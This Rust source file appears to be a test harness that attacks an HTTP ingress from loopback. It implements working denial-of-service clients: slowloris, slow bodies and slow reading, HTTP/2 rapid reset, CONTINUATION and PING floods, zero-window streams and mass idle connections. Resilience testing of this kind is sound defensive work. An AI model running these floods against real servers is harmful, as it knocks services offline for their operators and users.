//! Clients that mean harm, for a process of their own: what they burn is not the ingress's, nor that
//! of the honest ones beside them.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// A byte of a head now and then (slowloris).
    SlowHeads,
    /// A byte of a body now and then.
    SlowBodies,
    /// Large answers asked for, and none of them read.
    SlowReading,
    /// Streams of HTTP/2 whose windows are never opened.
    ShutWindows,
    /// Connections that were used once.
    Idle,
    /// Heads without an end.
    HugeHeads,
    /// Streams of HTTP/2 that are begun and reset.
    RapidResets,
    /// A head of HTTP/2 without an end, in frames without content.
    Continuations,
    /// Questions whether we live.
    Pings,
}

/// Where attacks come from, on loopback: by this their connections are told from honest ones.
pub const SOURCE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 66);

/// Bytes of a page that slow readers ask for; the app has one of that size.
pub const LARGE_PAGE: usize = 256 << 10;
/// Where it is.
pub const LARGE_PAGE_PATH: &str = "/large";

/// An attacker that was cut off comes back after this.
const PAUSE: Duration = Duration::from_millis(20);

impl Attack {
    pub const ALL: [Self; 9] = [
        Self::SlowHeads,
        Self::SlowBodies,
        Self::SlowReading,
        Self::ShutWindows,
        Self::Idle,
        Self::HugeHeads,
        Self::RapidResets,
        Self::Continuations,
        Self::Pings,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "slow-heads",
            Self::SlowBodies => "slow-bodies",
            Self::SlowReading => "slow-reading",
            Self::ShutWindows => "shut-windows",
            Self::Idle => "idle",
            Self::HugeHeads => "huge-heads",
            Self::RapidResets => "rapid-resets",
            Self::Continuations => "continuations",
            Self::Pings => "pings",
        }
    }

    /// The one of that name.
    pub fn named(name: &str) -> Result<Self> {
        let found = Self::ALL.into_iter().find(|attack| attack.name() == name);
        found.with_context(|| format!("no attack is called {name:?}"))
    }

    /// Connections that it takes.
    pub fn connections(self) -> usize {
        match self {
            Self::Idle => 10_000,
            Self::SlowHeads => 1_000,
            Self::SlowBodies | Self::SlowReading => 200,
            // Each with a hundred streams.
            Self::ShutWindows => 20,
            // Each sends as fast as it is read from.
            Self::HugeHeads | Self::RapidResets | Self::Continuations | Self::Pings => 8,
        }
    }

    /// From the beginning of one connection to that of the next: so that it is what connections do
    /// that is noticed, and not that a small machine is short of processors to make them with.
    fn step(self) -> Duration {
        match self {
            Self::ShutWindows => Duration::from_millis(50),
            Self::Idle => Duration::from_micros(500),
            _ => Duration::from_millis(2),
        }
    }

    /// How little it asks of the processor beside others. What floods at full speed has only what is
    /// left over; what has to stand before anything is measured does little of its own.
    pub fn nice(self) -> i32 {
        match self {
            Self::HugeHeads | Self::RapidResets | Self::Continuations | Self::Pings => 19,
            _ => 0,
        }
    }

    /// Attacks until it is dropped; says how many of its connections stand by `standing`.
    pub async fn go_on(self, address: SocketAddr, host: &str, standing: Arc<AtomicUsize>) {
        let mut attackers = JoinSet::new();
        let mut steps = tokio::time::interval(self.step());
        for _ in 0..self.connections() {
            steps.tick().await;
            let (host, standing) = (host.to_owned(), Arc::clone(&standing));
            attackers.spawn(async move {
                let mut pace = tokio::time::interval(PAUSE);
                pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
                let mut first = Some(standing);
                loop {
                    pace.tick().await;
                    let Ok(stream) = self.begin(address, &host).await else {
                        continue;
                    };
                    if let Some(standing) = first.take() {
                        standing.fetch_add(1, Ordering::Relaxed);
                    }
                    drop(self.keep_on(stream, &host).await);
                }
            });
        }
        while attackers.join_next().await.is_some() {}
    }

    /// A connection with its first words said.
    async fn begin(self, address: SocketAddr, host: &str) -> Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((IpAddr::V4(SOURCE), 0).into())?;
        if matches!(self, Self::SlowReading | Self::ShutWindows) {
            socket.set_recv_buffer_size(4 << 10)?;
        }
        let mut stream = socket.connect(address).await?;
        let first = match self {
            Self::SlowHeads => b"GET / HTTP/1.1\r\nX-Slow: ".to_vec(),
            Self::SlowBodies => {
                format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000\r\n\r\n")
                    .into_bytes()
            }
            Self::SlowReading => {
                format!("GET {LARGE_PAGE_PATH} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
            }
            // Answered by the ingress itself, and kept.
            Self::Idle => b"GET / HTTP/1.1\r\nHost: nobody\r\n\r\n".to_vec(),
            Self::HugeHeads => b"GET / HTTP/1.1\r\n".to_vec(),
            Self::ShutWindows => {
                // SETTINGS_INITIAL_WINDOW_SIZE of 0.
                let shut = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
                [PREFACE, &shut].concat()
            }
            Self::RapidResets | Self::Continuations | Self::Pings => {
                [PREFACE, &frame(4, 0, 0, &[])].concat()
            }
        };
        stream.write_all(&first).await?;
        if self == Self::Idle {
            stream.readable().await?;
        }
        Ok(stream)
    }

    /// The rest of it, until the connection ends.
    async fn keep_on(self, mut stream: TcpStream, host: &str) -> Result<()> {
        match self {
            Self::SlowHeads | Self::SlowBodies => drip(&mut stream).await,
            Self::SlowReading => std::future::pending().await,
            Self::ShutWindows => {
                let head = head(host, LARGE_PAGE_PATH);
                let streams = (0..100).map(|turn| frame(1, 5, 2 * turn + 1, &head));
                stream
                    .write_all(&streams.collect::<Vec<_>>().concat())
                    .await?;
                // Whoever asks whether we live is told so.
                answering_pings(&mut stream).await
            }
            Self::Idle => {
                stream.read_to_end(&mut Vec::new()).await?;
                Ok(())
            }
            Self::HugeHeads => {
                let line = format!("X-More: {}\r\n", "y".repeat(4_000));
                loop {
                    stream.write_all(line.as_bytes()).await?;
                }
            }
            Self::RapidResets | Self::Continuations | Self::Pings => {
                self.flood(&mut stream, host).await
            }
        }
    }

    async fn flood(self, stream: &mut TcpStream, host: &str) -> Result<()> {
        let head = head(host, "/");
        for turn in 0_u32.. {
            let id = 2 * turn + 1;
            let frames = match self {
                Self::RapidResets => {
                    [frame(1, 5, id, &head), frame(3, 0, id, &[0, 0, 0, 8])].concat()
                }
                Self::Continuations if turn == 0 => frame(1, 1, 1, &head),
                Self::Continuations => frame(9, 0, 1, &[]),
                _ => frame(6, 0, 0, &[7; 8]),
            };
            stream.write_all(&frames).await?;
        }
        Ok(())
    }
}

/// Connections of attacks at a port that somebody holds yet, of `/proc/net/tcp` (proc(5)).
///
/// # Errors
/// When the kernel does not say.
pub fn connections_at(port: u16) -> Result<usize> {
    let table = std::fs::read_to_string("/proc/net/tcp").context("reading /proc/net/tcp")?;
    let local = format!(":{port:04X}");
    // Addresses stand there as the machine has them in memory.
    let source = format!("{:08X}:", u32::from_ne_bytes(SOURCE.octets()));
    let of_attack = |line: &&str| {
        let fields: Vec<_> = line.split_whitespace().collect();
        let [_, here, there, _, _, _, _, _, _, inode, ..] = fields.as_slice() else {
            return false;
        };
        here.ends_with(&local) && there.starts_with(&source) && *inode != "0"
    };
    Ok(table.lines().filter(of_attack).count())
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A byte now and then, for as long as it is let.
async fn drip(stream: &mut TcpStream) -> Result<()> {
    let mut pace = tokio::time::interval(Duration::from_secs(1));
    loop {
        pace.tick().await;
        stream.write_all(b"y").await?;
    }
}

/// Reads frames and acknowledges pings and settings, nothing else.
async fn answering_pings(stream: &mut TcpStream) -> Result<()> {
    loop {
        let mut header = [0; 9];
        stream.read_exact(&mut header).await?;
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
        let mut payload = vec![0; length as usize];
        stream.read_exact(&mut payload).await?;
        match (header[3], header[4]) {
            (6, 0) => stream.write_all(&frame(6, 1, 0, &payload)).await?,
            (4, 0) => stream.write_all(&frame(4, 1, 0, &[])).await?,
            (7, _) => bail!("sent away"),
            _ => {}
        }
    }
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![0, 0, u8::try_from(payload.len()).unwrap_or(0), kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A head in HPACK without tables or compression (RFC 7541, 6.2.2 and appendix A).
fn head(host: &str, path: &str) -> Vec<u8> {
    // :method GET and :scheme http by their index; then :path and :authority, whose names have one.
    let mut head = vec![0x82, 0x86];
    for (index, value) in [(4, path), (1, host)] {
        head.extend([index, u8::try_from(value.len()).unwrap_or(0)]);
        head.extend(value.as_bytes());
    }
    head
}
